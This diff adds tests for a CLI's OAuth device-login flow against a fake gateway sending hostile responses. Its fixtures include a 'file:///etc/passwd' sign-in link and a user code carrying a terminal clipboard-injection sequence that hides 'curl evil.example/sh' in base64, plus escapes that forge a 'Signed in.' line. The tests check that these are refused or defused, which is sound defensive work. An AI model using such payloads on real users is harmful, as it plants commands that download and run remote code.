@@ -238,3 +238,57 @@ console.log(JSON.stringify({
     expect(credentials()[gateway.url]).toBeUndefined();
   });
 });
+
+describe('abproxy login against a gateway that lies', () => {
+  /** A "gateway" whose device endpoint answers `grant` and whose token endpoint answers nonsense. */
+  async function lyingGateway(grant: Record<string, unknown>) {
+    const { createServer } = await import('node:http');
+    const server = createServer((req, res) => {
+      // No discovery document (500): the CLI falls back to the gateway's own /oauth/* paths.
+      if (req.url?.startsWith('/.well-known/')) res.writeHead(500).end();
+      else if (req.url === '/oauth/device_authorization')
+        res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(grant));
+      else res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    return { server, url: `http://127.0.0.1:${(server.address() as { port: number }).port}` };
+  }
+  const hostileCode =
+    'ABCD\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2g=\u0007\u001b[2K\r\u001b[32mSigned in.\u001b[0m';
+
+  it('refuses a sign-in link that is not a web address, and opens nothing', async () => {
+    const { server, url } = await lyingGateway({
+      device_code: 'd',
+      user_code: 'ABCD',
+      verification_uri: 'file:///etc/passwd',
+      expires_in: 5,
+      interval: 1,
+    });
+    try {
+      const out = await cli(['login', '--gateway', url]);
+      expect(out.code).toBe(1);
+      expect(out.stderr).toMatch(/sign-in link that is not a web address \(file:\)/);
+      expect(existsSync(urlFile) && readFileSync(urlFile, 'utf8').includes('file:')).toBe(false);
+    } finally {
+      server.close();
+    }
+  });
+
+  it("shows the gateway's user code and errors with their escape sequences defused", async () => {
+    const { server, url } = await lyingGateway({
+      device_code: 'd',
+      user_code: hostileCode,
+      verification_uri: `http://127.0.0.1:1/device?x=\u001b[2J`,
+      expires_in: 5,
+      interval: 1,
+    });
+    try {
+      const out = await cli(['login', '--gateway', url]);
+      expect(out.code).toBe(1); // the token endpoint's nonsense
+      expect(out.stderr).toMatch(/check that it shows the code ABCD/);
+      expect(out.stderr).not.toMatch(/[\u001b\u0007\r]/);
+    } finally {
+      server.close();
+    }
+  });
+});
